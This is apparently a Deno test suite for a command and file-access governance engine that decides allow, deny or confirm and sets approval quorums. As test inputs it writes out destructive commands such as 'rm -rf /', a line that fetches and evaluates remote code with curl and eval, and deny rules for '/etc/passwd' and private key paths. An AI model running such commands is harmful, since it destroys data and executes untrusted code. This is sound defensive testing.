import assert from "node:assert/strict";
import {
  type ApprovalRequirement,
  classifyRisk,
  combineRequirements,
  CompiledGovernance,
  decideEach,
  decideGoverned,
  type GovernedFacts,
  type GovernedKind,
  isProduction,
  isReversible,
  loadShellParser,
  ONE_OPERATOR,
  requirementCovered,
  type StructuredRuleInput,
} from "./mod.ts";

await loadShellParser();

/** 2026-01-05 is a Monday. */
const monday = (h: number, m = 0) => Date.UTC(2026, 0, 5, h, m);
const saturday = (h: number, m = 0) => Date.UTC(2026, 0, 10, h, m);

type Command = { argv: readonly string[] } | { line: string };
const argv = (...words: string[]): Command => ({ argv: words });
const line = (text: string): Command => ({ line: text });

/** Facts of one action; a command gets the analyser as its judge (as the policy port does). */
function facts(over: Partial<GovernedFacts> = {}): GovernedFacts {
  const f: GovernedFacts = {
    kind: "exec",
    principal: "alice",
    risk: "medium",
    reversible: false,
    now: monday(12),
    ...over,
  };
  const c = f.command;
  if (c !== undefined && f.judge === undefined) {
    f.judge = (policies) => decideEach("line" in c ? c : c.argv, policies).map((d) => d.action);
  }
  return f;
}

/** The action the rules answer, or "none" when no rule matches. */
function action(
  rules: readonly StructuredRuleInput[],
  over: Partial<GovernedFacts> = {},
): "allow" | "deny" | "confirm" | "none" {
  return decideGoverned(new CompiledGovernance(rules), facts(over))?.action ?? "none";
}

function req(over: Partial<ApprovalRequirement> = {}): ApprovalRequirement {
  return { quorum: 1, roles: [], mfa: false, exclude_requester: false, ...over };
}

Deno.test("decideGoverned answers undefined when no rule matches", () => {
  const empty = new CompiledGovernance([]);
  assert.equal(empty.empty, true);
  assert.equal(decideGoverned(empty, facts({ command: argv("ls") })), undefined);
  const g = new CompiledGovernance([{ effect: "deny", action: ["file.write"] }]);
  assert.equal(g.empty, false);
  assert.equal(decideGoverned(g, facts({ command: argv("ls") })), undefined);
});

Deno.test("a bad pattern in a structured rule is a RangeError at compile time", () => {
  assert.throws(() => new CompiledGovernance([{ effect: "deny", principal: [" "] }]), RangeError);
  assert.throws(() => new CompiledGovernance([{ effect: "deny", resource: [""] }]), RangeError);
});

Deno.test("the action matcher holds for the listed kinds only; absent, for every kind", async (t) => {
  await t.step("listed kinds", () => {
    const rules: StructuredRuleInput[] = [{ effect: "deny", action: ["file.write", "forward"] }];
    assert.equal(action(rules, { kind: "file.write", resources: ["/tmp/x"] }), "deny");
    assert.equal(action(rules, { kind: "forward", resources: ["web:127.0.0.1:80"] }), "deny");
    assert.equal(action(rules, { kind: "file.read", resources: ["/tmp/x"] }), "none");
    assert.equal(action(rules, { kind: "exec", command: argv("ls") }), "none");
  });
  await t.step("absent", () => {
    const rules: StructuredRuleInput[] = [{ effect: "confirm" }];
    const kinds: GovernedKind[] = [
      "exec",
      "input",
      "session",
      "file.read",
      "file.write",
      "fleet",
      "forward",
      "plugin",
    ];
    for (const kind of kinds) assert.equal(action(rules, { kind }), "confirm", kind);
  });
});

Deno.test("a command resource is matched by the analyser, through lines and wrappers", async (t) => {
  const rules: StructuredRuleInput[] = [
    { effect: "deny", action: ["exec", "input", "fleet"], resource: ["rm -rf *"] },
  ];
  await t.step("argv", () => {
    assert.equal(action(rules, { command: argv("rm", "-rf", "/tmp/x") }), "deny");
    assert.equal(action(rules, { command: argv("rm", "/tmp/x") }), "none");
    assert.equal(action(rules, { command: argv("ls", "-la") }), "none");
  });
  await t.step("one shell line with several commands", () => {
    assert.equal(action(rules, { command: argv("ls; rm -rf /tmp/x") }), "deny");
    assert.equal(action(rules, { command: argv("echo $(rm -rf /)") }), "deny");
    assert.equal(action(rules, { command: argv("ls | wc -l") }), "none");
  });
  await t.step("wrappers are peeled", () => {
    assert.equal(action(rules, { command: argv("sudo env X=1 rm -rf /") }), "deny");
    assert.equal(action(rules, { command: argv("bash", "-c", "rm -rf /") }), "deny");
  });
  await t.step("typed lines and fleet runs", () => {
    assert.equal(action(rules, { kind: "input", command: line("rm -rf ~") }), "deny");
    assert.equal(action(rules, { kind: "fleet", command: argv("rm -rf /var/tmp") }), "deny");
    assert.equal(action(rules, { kind: "input", command: line("ls") }), "none");
  });
  await t.step("a rule without action holds for commands too", () => {
    const any: StructuredRuleInput[] = [{ effect: "deny", resource: ["rm *"] }];
    assert.equal(action(any, { command: argv("rm", "x") }), "deny");
    assert.equal(action(any, { command: argv("ls") }), "none");
  });
});

Deno.test("a path resource: `*` stays within a segment, `**` crosses them", async (t) => {
  await t.step("*", () => {
    const rules: StructuredRuleInput[] = [
      { effect: "deny", action: ["file.read"], resource: ["/etc/*"] },
    ];
    const read = (path: string) => action(rules, { kind: "file.read", resources: [path] });
    assert.equal(read("/etc/passwd"), "deny");
    assert.equal(read("/etc/ssl/cert.pem"), "none");
    assert.equal(read("/etcetera"), "none");
  });
  await t.step("**", () => {
    const rules: StructuredRuleInput[] = [
      { effect: "deny", action: ["file.read"], resource: ["/etc/**"] },
    ];
    const read = (path: string) => action(rules, { kind: "file.read", resources: [path] });
    assert.equal(read("/etc/passwd"), "deny");
    assert.equal(read("/etc/ssl/private/key.pem"), "deny");
    assert.equal(read("/home/alice/etc/x"), "none");
  });
  await t.step("* in the middle", () => {
    const rules: StructuredRuleInput[] = [
      { effect: "confirm", action: ["file.write"], resource: ["/srv/*/config.yaml"] },
    ];
    const write = (path: string) => action(rules, { kind: "file.write", resources: [path] });
    assert.equal(write("/srv/app/config.yaml"), "confirm");
    assert.equal(write("/srv/app/sub/config.yaml"), "none");
  });
  await t.step("a rule without action holds for paths too", () => {
    const rules: StructuredRuleInput[] = [{ effect: "deny", resource: ["/etc/**"] }];
    assert.equal(action(rules, { kind: "file.write", resources: ["/etc/hosts"] }), "deny");
    assert.equal(action(rules, { kind: "file.write", resources: ["/tmp/hosts"] }), "none");
  });
  await t.step("a resource rule does not match an action without a resource", () => {
    const rules: StructuredRuleInput[] = [
      { effect: "deny", action: ["file.read"], resource: ["/**"] },
    ];
    assert.equal(action(rules, { kind: "file.read" }), "none");
    assert.equal(action(rules, { kind: "file.read", resources: [] }), "none");
  });
});

Deno.test("allow needs every resource covered; deny and confirm any one", () => {
  const allow: StructuredRuleInput[] = [
    { effect: "allow", action: ["file.read"], resource: ["/tmp/**"] },
  ];
  assert.equal(action(allow, { kind: "file.read", resources: ["/tmp/a", "/tmp/b/c"] }), "allow");
  // Not every resource is covered, and allow rules for file.read exist: denied.
  assert.equal(action(allow, { kind: "file.read", resources: ["/tmp/a", "/etc/x"] }), "deny");
  const deny: StructuredRuleInput[] = [
    { effect: "deny", action: ["file.read"], resource: ["/etc/**"] },
  ];
  assert.equal(action(deny, { kind: "file.read", resources: ["/tmp/a", "/etc/x"] }), "deny");
});

Deno.test("server and forward resources match their names with the resource glob", () => {
  const rules: StructuredRuleInput[] = [
    { effect: "confirm", action: ["session"], resource: ["prod-*"] },
    { effect: "deny", action: ["forward"], resource: ["*:127.0.0.1:22", "db:*:*"] },
  ];
  assert.equal(action(rules, { kind: "session", resources: ["prod-db"] }), "confirm");
  assert.equal(action(rules, { kind: "session", resources: ["staging"] }), "none");
  assert.equal(action(rules, { kind: "forward", resources: ["web:127.0.0.1:22"] }), "deny");
  assert.equal(action(rules, { kind: "forward", resources: ["db:10.0.0.5:5432"] }), "deny");
  assert.equal(action(rules, { kind: "forward", resources: ["web:127.0.0.1:8080"] }), "none");
});

Deno.test("principal and tenant match with the resource glob; an absent tenant matches no tenant rule", () => {
  const rules: StructuredRuleInput[] = [
    { effect: "deny", principal: ["mallory", "*@evil.example"] },
    { effect: "confirm", tenant: ["acme-*"] },
  ];
  assert.equal(action(rules, { principal: "mallory" }), "deny");
  assert.equal(action(rules, { principal: "eve@evil.example" }), "deny");
  assert.equal(action(rules, { principal: "alice@good.example" }), "none");
  assert.equal(action(rules, { principal: "alice", tenant: "acme-eu" }), "confirm");
  assert.equal(action(rules, { principal: "alice", tenant: "globex" }), "none");
  assert.equal(action(rules, { principal: "alice" }), "none");
});

Deno.test("environment matches the target's label; no label matches no environment rule", () => {
  const rules: StructuredRuleInput[] = [{ effect: "deny", environment: ["prod*"] }];
  assert.equal(action(rules, { environment: "prod" }), "deny");
  assert.equal(action(rules, { environment: "prod-eu" }), "deny");
  assert.equal(action(rules, { environment: "staging" }), "none");
  assert.equal(action(rules, {}), "none");
});

Deno.test("a time window holds on its days from `from` up to (not including) `to`", async (t) => {
  await t.step("office hours in UTC", () => {
    const rules: StructuredRuleInput[] = [{
      effect: "deny",
      time: { days: ["mon", "tue", "wed", "thu", "fri"], from: "09:00", to: "17:30", tz: "UTC" },
    }];
    assert.equal(action(rules, { now: monday(8, 59) }), "none");
    assert.equal(action(rules, { now: monday(9, 0) }), "deny");
    assert.equal(action(rules, { now: monday(17, 29) }), "deny");
    assert.equal(action(rules, { now: monday(17, 30) }), "none");
    assert.equal(action(rules, { now: saturday(12) }), "none");
  });
  await t.step("a window wrapping midnight (every day by default)", () => {
    const rules: StructuredRuleInput[] = [{
      effect: "deny",
      time: { from: "22:00", to: "06:00", tz: "UTC" },
    }];
    assert.equal(action(rules, { now: monday(21, 59) }), "none");
    assert.equal(action(rules, { now: monday(22, 0) }), "deny");
    assert.equal(action(rules, { now: monday(23, 59) }), "deny");
    assert.equal(action(rules, { now: monday(0, 0) }), "deny");
    assert.equal(action(rules, { now: monday(5, 59) }), "deny");
    assert.equal(action(rules, { now: monday(6, 0) }), "none");
    assert.equal(action(rules, { now: monday(12) }), "none");
    assert.equal(action(rules, { now: saturday(3) }), "deny");
  });
  await t.step("hours and days are read in the rule's time zone", () => {
    // New York is UTC-5 in January.
    const office: StructuredRuleInput[] = [{
      effect: "confirm",
      time: { days: ["mon"], from: "09:00", to: "17:00", tz: "America/New_York" },
    }];
    assert.equal(action(office, { now: monday(13, 30) }), "none"); // 08:30 there
    assert.equal(action(office, { now: monday(14, 30) }), "confirm"); // 09:30 there
    assert.equal(action(office, { now: monday(21, 59) }), "confirm"); // 16:59 there
    assert.equal(action(office, { now: monday(22, 0) }), "none"); // 17:00 there
    const evening: StructuredRuleInput[] = [{
      effect: "confirm",
      time: { days: ["mon"], from: "20:00", to: "23:00", tz: "America/New_York" },
    }];
    // Tuesday 03:00 UTC is Monday 22:00 in New York.
    assert.equal(action(evening, { now: Date.UTC(2026, 0, 6, 3, 0) }), "confirm");
    // Monday 03:00 UTC is Sunday 22:00 in New York.
    assert.equal(action(evening, { now: monday(3) }), "none");
  });
  await t.step("a zone east of UTC", () => {
    const rules: StructuredRuleInput[] = [{
      effect: "deny",
      time: { days: ["sat", "sun"], from: "00:00", to: "23:59", tz: "Asia/Tokyo" },
    }];
    // Friday 16:00 UTC is Saturday 01:00 in Tokyo.
    assert.equal(action(rules, { now: Date.UTC(2026, 0, 9, 16, 0) }), "deny");
    assert.equal(action(rules, { now: Date.UTC(2026, 0, 9, 14, 0) }), "none");
  });
});

Deno.test("risk and reversible match the action's facts", () => {
  const rules: StructuredRuleInput[] = [
    { effect: "deny", risk: ["high", "critical"] },
    { effect: "confirm", reversible: false },
  ];
  assert.equal(action(rules, { risk: "critical", reversible: true }), "deny");
  assert.equal(action(rules, { risk: "high", reversible: true }), "deny");
  assert.equal(action(rules, { risk: "medium", reversible: false }), "confirm");
  assert.equal(action(rules, { risk: "low", reversible: true }), "none");
  const undoable: StructuredRuleInput[] = [{ effect: "allow", reversible: true }];
  assert.equal(action(undoable, { reversible: true }), "allow");
  // An allow rule names what may happen: what it does not match is denied.
  assert.equal(action(undoable, { reversible: false }), "deny");
});

Deno.test("every matcher of a rule must hold", () => {
  const rules: StructuredRuleInput[] = [{
    effect: "deny",
    action: ["exec"],
    resource: ["kubectl delete *"],
    principal: ["bob"],
    tenant: ["acme"],
    environment: ["prod"],
    risk: ["high"],
    reversible: false,
    time: { from: "00:00", to: "23:59", tz: "UTC" },
  }];
  const all: Partial<GovernedFacts> = {
    principal: "bob",
    tenant: "acme",
    environment: "prod",
    risk: "high",
    command: argv("kubectl", "delete", "pod", "x"),
  };
  assert.equal(action(rules, all), "deny");
  assert.equal(action(rules, { ...all, kind: "input" }), "none");
  assert.equal(action(rules, { ...all, command: argv("kubectl", "get", "pods") }), "none");
  assert.equal(action(rules, { ...all, principal: "alice" }), "none");
  assert.equal(action(rules, { ...all, tenant: "globex" }), "none");
  assert.equal(action(rules, { ...all, environment: "staging" }), "none");
  assert.equal(action(rules, { ...all, risk: "medium" }), "none");
  assert.equal(action(rules, { ...all, reversible: true }), "none");
  assert.equal(action(rules, { ...all, now: monday(23, 59) }), "none");
});

Deno.test("the strictest matching rule wins and is the one named", async (t) => {
  const allow: StructuredRuleInput = { effect: "allow", reason: "everyone may" };
  const confirm: StructuredRuleInput = { effect: "confirm", reason: "ask first" };
  const deny: StructuredRuleInput = { effect: "deny", reason: "never on Mondays" };
  await t.step("deny over confirm over allow, in any order", () => {
    for (const order of [[allow, confirm, deny], [deny, confirm, allow], [confirm, deny, allow]]) {
      const v = decideGoverned(new CompiledGovernance(order), facts());
      assert.equal(v?.action, "deny");
      const i = order.indexOf(deny);
      assert.deepEqual(v?.rule, { list: "rules", pattern: `rules[${i}]` });
      assert.equal(v?.reason, `denied by rules[${i}] for exec: never on Mondays`);
      assert.equal(v?.approval, undefined);
    }
    assert.equal(action([allow, confirm]), "confirm");
    assert.equal(action([confirm, allow]), "confirm");
  });
  await t.step("a rule that does not match does not count", () => {
    const v = decideGoverned(
      new CompiledGovernance([allow, { ...deny, principal: ["bob"] }]),
      facts(),
    );
    assert.equal(v?.action, "allow");
    assert.equal(v?.reason, "allowed by rules[0] for exec: everyone may");
  });
  await t.step("of equal rank, the first is named", () => {
    const v = decideGoverned(new CompiledGovernance([{ effect: "deny" }, deny]), facts());
    assert.deepEqual(v?.rule, { list: "rules", pattern: "rules[0]" });
    assert.equal(v?.reason, "denied by rules[0] for exec");
  });
});

Deno.test("confirm requirements of every matching confirm rule add up", async (t) => {
  await t.step("max quorum, union of roles, MFA and requester exclusion if any asks", () => {
    const g = new CompiledGovernance([
      { effect: "confirm", approval: req({ quorum: 2, roles: ["sre", "ops"], mfa: true }) },
      { effect: "allow" },
      { effect: "confirm", approval: req({ quorum: 3, roles: ["ops", "dba"] }) },
      { effect: "confirm", approval: req({ exclude_requester: true }) },
      { effect: "confirm", principal: ["bob"], approval: req({ quorum: 8 }) },
    ]);
    const v = decideGoverned(g, facts());
    assert.equal(v?.action, "confirm");
    assert.deepEqual(v?.rule, { list: "rules", pattern: "rules[0]" });
    // Each approver holds a role of each rule's list (sre or ops, and ops or dba).
    assert.deepEqual(v?.approval, {
      quorum: 3,
      roles: ["sre", "ops", "dba"],
      mfa: true,
      exclude_requester: true,
      role_sets: [["sre", "ops"], ["ops", "dba"]],
    });
  });
  await t.step("a confirm rule without approval asks the policy's, else one operator", () => {
    const rules: StructuredRuleInput[] = [{ effect: "confirm" }];
    const dflt = req({ quorum: 2, roles: ["lead"] });
    assert.deepEqual(decideGoverned(new CompiledGovernance(rules, dflt), facts())?.approval, dflt);
    assert.deepEqual(
      decideGoverned(new CompiledGovernance(rules), facts())?.approval,
      ONE_OPERATOR,
    );
    const both = new CompiledGovernance(
      [{ effect: "confirm" }, { effect: "confirm", approval: req({ mfa: true }) }],
      dflt,
    );
    assert.deepEqual(
      decideGoverned(both, facts())?.approval,
      req({
        quorum: 2,
        roles: ["lead"],
        mfa: true,
      }),
    );
  });
  await t.step("a deny that wins carries no approval", () => {
    const g = new CompiledGovernance([
      { effect: "confirm", approval: req({ quorum: 2 }) },
      { effect: "deny" },
    ]);
    const v = decideGoverned(g, facts());
    assert.equal(v?.action, "deny");
    assert.equal(v?.approval, undefined);
  });
});

Deno.test("combineRequirements keeps the stricter of each part", () => {
  const a = req({ quorum: 2, roles: ["sre"], mfa: true });
  const b = req({ quorum: 1, roles: ["sre", "dba"], exclude_requester: true });
  assert.equal(combineRequirements(undefined, undefined), undefined);
  assert.equal(combineRequirements(a, undefined), a);
  assert.equal(combineRequirements(undefined, b), b);
  // Holding sre meets both role lists: "sre or dba" adds nothing.
  assert.deepEqual(combineRequirements(a, b), {
    quorum: 2,
    roles: ["sre"],
    mfa: true,
    exclude_requester: true,
  });
  assert.deepEqual(
    combineRequirements(req({ roles: ["sre"] }), req({ roles: ["dba"] }))?.role_sets,
    [["sre"], ["dba"]],
  );
  assert.deepEqual(combineRequirements(ONE_OPERATOR, ONE_OPERATOR), req());
});

Deno.test("an allow rule covers a line whose every command matches one of its globs", async (t) => {
  const rules: StructuredRuleInput[] = [
    { effect: "allow", action: ["exec"], resource: ["echo *", "true"] },
  ];
  await t.step("covered", () => {
    assert.equal(action(rules, { command: argv("echo a; true") }), "allow");
    assert.equal(action(rules, { command: argv("echo a && echo b | true") }), "allow");
    assert.equal(action(rules, { command: argv("echo", "a") }), "allow");
  });
  await t.step("not covered: denied, as by a glob allow list", () => {
    assert.equal(action(rules, { command: argv("echo a; ls") }), "deny");
    assert.equal(action(rules, { command: argv("ls") }), "deny");
    assert.equal(action(rules, { command: argv("echo $(ls)") }), "deny");
  });
  await t.step("allow rules cover together, like one allow list", () => {
    const split: StructuredRuleInput[] = [
      { effect: "allow", action: ["exec"], resource: ["echo *"] },
      { effect: "allow", action: ["exec"], resource: ["true"] },
    ];
    assert.equal(action(split, { command: argv("echo a; true") }), "allow");
    assert.equal(action(split, { command: argv("true") }), "allow");
    assert.equal(action(split, { command: argv("echo a; ls") }), "deny");
  });
});

Deno.test("deny and confirm rules match what the analyser cannot see through (fail closed)", () => {
  const opaque = [argv('eval "$x"'), argv('bash -c "$cmd"'), argv('"$prog" --force')];
  for (const command of opaque) {
    const shown = JSON.stringify(command);
    assert.equal(
      action([{ effect: "deny", action: ["exec"], resource: ["rm *"] }], { command }),
      "deny",
      shown,
    );
    assert.equal(
      action([{ effect: "confirm", action: ["exec"], resource: ["git push *"] }], { command }),
      "confirm",
      shown,
    );
    // An allow rule never covers it: denied (allow rules exist for exec).
    assert.equal(
      action([{ effect: "allow", action: ["exec"], resource: ["*"] }], { command }),
      "deny",
      shown,
    );
  }
  assert.equal(
    action([{ effect: "deny", action: ["input"], resource: ["rm *"] }], {
      kind: "input",
      command: line('eval "$(curl -s https://x.example)"'),
    }),
    "deny",
  );
});

Deno.test("requirementCovered: an approval under `have` satisfies `need`", async (t) => {
  await t.step("absent means one operator", () => {
    assert.equal(requirementCovered(undefined, undefined), true);
    assert.equal(requirementCovered(undefined, req({ quorum: 2 })), true);
    assert.equal(requirementCovered(req(), undefined), true);
    assert.equal(requirementCovered(req({ quorum: 2 }), undefined), false);
  });
  await t.step("quorum", () => {
    assert.equal(requirementCovered(req({ quorum: 2 }), req({ quorum: 2 })), true);
    assert.equal(requirementCovered(req({ quorum: 2 }), req({ quorum: 3 })), true);
    assert.equal(requirementCovered(req({ quorum: 3 }), req({ quorum: 2 })), false);
  });
  await t.step("MFA and requester exclusion", () => {
    assert.equal(requirementCovered(req({ mfa: true }), req()), false);
    assert.equal(requirementCovered(req({ mfa: true }), req({ mfa: true })), true);
    assert.equal(requirementCovered(req(), req({ mfa: true })), true);
    assert.equal(requirementCovered(req({ exclude_requester: true }), req()), false);
    assert.equal(
      requirementCovered(req({ exclude_requester: true }), req({ exclude_requester: true })),
      true,
    );
    assert.equal(requirementCovered(req(), req({ exclude_requester: true })), true);
  });
  await t.step("roles", () => {
    assert.equal(requirementCovered(req({ roles: ["sre"] }), req()), false);
    assert.equal(requirementCovered(req(), req({ roles: ["sre"] })), true);
    assert.equal(requirementCovered(req({ roles: ["sre"] }), req({ roles: ["sre"] })), true);
    assert.equal(requirementCovered(req({ roles: ["sre"] }), req({ roles: ["dba"] })), false);
  });
});

// Roles are "at least one of" for each approver (src/control/approvals.ts, the config schema):
// an approval given under roles [sre, dev] may come from a dev alone, which [sre] does not
// accept; one given under [sre] satisfies [sre, dev].
Deno.test({
  name: "requirementCovered reads roles as each approver holding one of them",
  fn() {
    assert.equal(
      requirementCovered(req({ roles: ["sre"] }), req({ roles: ["sre", "dev"] })),
      false,
    );
    assert.equal(requirementCovered(req({ roles: ["sre", "dev"] }), req({ roles: ["sre"] })), true);
  },
});

Deno.test("classifyRisk: by kind, one level higher on production", () => {
  const base: Record<GovernedKind, string> = {
    "file.read": "low",
    session: "low",
    exec: "medium",
    input: "medium",
    "file.write": "medium",
    forward: "medium",
    plugin: "medium",
    // An adapter's own prepare says better (its risk); this is the default when it does not.
    adapter: "medium",
    fleet: "high",
  };
  const raised: Record<string, string> = { low: "medium", medium: "high", high: "critical" };
  for (const [kind, risk] of Object.entries(base) as [GovernedKind, string][]) {
    assert.equal(classifyRisk(kind, undefined), risk, kind);
    assert.equal(classifyRisk(kind, "staging"), risk, kind);
    assert.equal(classifyRisk(kind, "prod"), raised[risk], kind);
    assert.equal(classifyRisk(kind, "Production"), raised[risk], kind);
  }
});

Deno.test("isProduction and isReversible", () => {
  for (const p of ["prod", "PROD", "production", "Production"]) assert.equal(isProduction(p), true);
  for (const p of [undefined, "", "staging", "preprod", "prod-eu", "productions"]) {
    assert.equal(isProduction(p), false, String(p));
  }
  const reversible: GovernedKind[] = ["file.read", "session", "forward"];
  const not: GovernedKind[] = ["exec", "input", "file.write", "fleet", "plugin"];
  for (const k of reversible) assert.equal(isReversible(k), true, k);
  for (const k of not) assert.equal(isReversible(k), false, k);
});
